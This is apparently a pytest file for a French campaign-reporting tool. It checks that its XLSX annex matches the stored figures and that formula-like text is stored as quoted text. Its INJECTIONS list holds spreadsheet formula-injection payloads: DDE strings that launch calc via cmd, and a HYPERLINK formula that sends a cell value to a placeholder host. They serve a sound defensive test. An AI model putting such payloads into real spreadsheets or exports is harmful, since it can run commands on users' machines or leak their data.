"""The XLSX data annex re-read with pandas equals the store; text that looks like a formula comes back as text."""
from __future__ import annotations

import io
import zipfile
from datetime import date

import pandas as pd
import pytest
from openpyxl import load_workbook

from resonance.domain.metrics import METRICS
from resonance.i18n import t
from resonance.ingest import load as ingest
from resonance.reports import annex
from resonance.services import review
from resonance.services.partnership import ensure_campaign, ensure_partner, ensure_partnership

MATCH = "Match avec ton futur"
OWN_MEDIA = "Moyens propres de la campagne"
INJECTIONS = ['=HYPERLINK("https://exemple.invalid/?x="&A1,"Cliquez")', "+33 6 12 34 56 78", "-2+3+cmd|' /C calc'!A0",
              "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]


def sheets_of(data: bytes) -> dict[str, pd.DataFrame]:
    return pd.read_excel(io.BytesIO(data), sheet_name=None, engine="calamine")


def test_the_demo_annex_equals_the_store(demo_store):
    campaign = review.campaign_id_by_name(demo_store, MATCH)
    sheets = sheets_of(annex.build(demo_store, campaign))
    assert list(sheets) == ["Synthèse", "Partenaires", "Chiffres par jour", "Presse", "Sources"]
    with demo_store.read() as con:
        stored = con.execute(
            "select coalesce(p.name, ?) as partner, f.metric, sum(f.value) as value, count(*) as n"
            " from metric_fact f left join partner p on p.id = f.partner_id where f.campaign_id = ?"
            " group by all order by all", [OWN_MEDIA, campaign]).df()
        titles = sorted(r[0] for r in con.execute("select title from press_mention where campaign_id = ?",
                                                  [campaign]).fetchall())
        files = sorted(r[0] for r in con.execute(
            "select file_name from ingestion where id in (select ingestion_id from metric_fact where campaign_id = ?"
            " union select ingestion_id from press_mention where campaign_id = ?)", [campaign, campaign]).fetchall())
    figures = sheets["Chiffres par jour"]
    labels = {t(f"metric.{m}"): m for m in METRICS}
    long = figures.melt(id_vars=["Début", "Fin", "Partenaire", "Canal", "PESO", "Plateforme"], var_name="label",
                        value_name="value").dropna(subset=["value"])
    assert len(long) == stored["n"].sum()                      # every stored figure, once
    long["metric"] = long["label"].map(labels)
    shown = long.groupby(["Partenaire", "metric"], as_index=False)["value"].sum().sort_values(["Partenaire", "metric"])
    assert shown["value"].tolist() == stored["value"].tolist()
    assert list(zip(shown["Partenaire"], shown["metric"], strict=True)) == \
        list(zip(stored["partner"], stored["metric"], strict=True))
    assert pd.to_datetime(figures["Début"]).min().date() == date(2025, 5, 12)
    assert len(figures) < len(long)                            # a day per row, the metrics side by side

    partners = sheets["Partenaires"].set_index("Partenaire")
    assert partners.loc["Tinder", "Impressions"] == 2_104_350
    assert partners.loc["Tinder", "Clics"] == 294_870
    assert partners.loc["Tinder", "Taux de clic"] == pytest.approx(294_870 / 2_104_350)
    assert partners.loc[OWN_MEDIA, "Envois"] == 850_000

    press = sheets["Presse"]
    assert sorted(press["Titre"]) == titles and len(press) == 213
    assert sorted(sheets["Sources"]["Fichier ou API"]) == files
    summary = dict(zip(sheets["Synthèse"]["Élément"], sheets["Synthèse"]["Valeur"], strict=True))
    assert summary["Campagne"] == MATCH and summary["Articles de presse"] == 213


def test_the_annex_in_english(demo_store):
    sheets = sheets_of(annex.build(demo_store, review.campaign_id_by_name(demo_store, MATCH), "en"))
    assert list(sheets) == ["Summary", "Partners", "Daily figures", "Press", "Sources"]
    assert "The campaign's own media" in set(sheets["Daily figures"]["Partner"])


@pytest.fixture
def booby_trapped(store):
    """A partner, a file, press outlets and headlines whose text starts like a spreadsheet formula."""
    with store.transaction() as con:
        campaign = ensure_campaign(con, "Campagne piégée", start_date=date(2026, 3, 2), end_date=date(2026, 3, 3))
        partner = ensure_partner(con, INJECTIONS[0])
        ensure_partnership(con, campaign, partner, activations=INJECTIONS[1])
    facts = pd.DataFrame({"campaign_id": campaign, "partner_id": pd.array([partner] * 2, "Int64"), "channel": "social",
                          "peso": "shared", "platform": INJECTIONS[2], "period_start": [date(2026, 3, 2), date(2026, 3, 3)],
                          "period_end": [date(2026, 3, 2), date(2026, 3, 3)], "metric": "impressions",
                          "value": [1000.0, 2000.0]})
    press = pd.DataFrame({"campaign_id": campaign, "partner_id": pd.array([partner] * 4, "Int64"),
                          "published_on": [date(2026, 3, 2)] * 4, "outlet": [INJECTIONS[3]] * 4,
                          "title": INJECTIONS[1:], "url": None, "audience": 1000, "sentiment": "neutral"})
    ingest.load(store, source="file", facts=facts, press=press, campaign_id=campaign, partner_id=partner,
                file_name=INJECTIONS[4] + ".csv")
    return store, campaign


def test_text_that_looks_like_a_formula_comes_back_as_text(booby_trapped):
    store, campaign = booby_trapped
    data = annex.build(store, campaign)
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in package.read(name) and b"<f " not in package.read(name), name
    workbook = load_workbook(io.BytesIO(data))
    trapped = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)   # stays text when edited in Excel
                    trapped.append(cell.value)
    assert set(INJECTIONS) <= set(trapped) | {INJECTIONS[4]} and INJECTIONS[4] + ".csv" in trapped
    sheets = sheets_of(data)
    assert sorted(sheets["Presse"]["Titre"]) == sorted(INJECTIONS[1:])
    assert set(sheets["Presse"]["Média"]) == {INJECTIONS[3]}
    assert set(sheets["Chiffres par jour"]["Partenaire"]) == {INJECTIONS[0]}
    assert set(sheets["Chiffres par jour"]["Plateforme"]) == {INJECTIONS[2]}
    assert sheets["Chiffres par jour"]["Impressions"].sum() == 3000
    assert sheets["Sources"]["Fichier ou API"].tolist() == [INJECTIONS[4] + ".csv"]


def test_an_unknown_campaign_is_refused(store):
    with pytest.raises(annex.AnnexError, match="Aucune campagne n°999"):
        annex.build(store, 999)
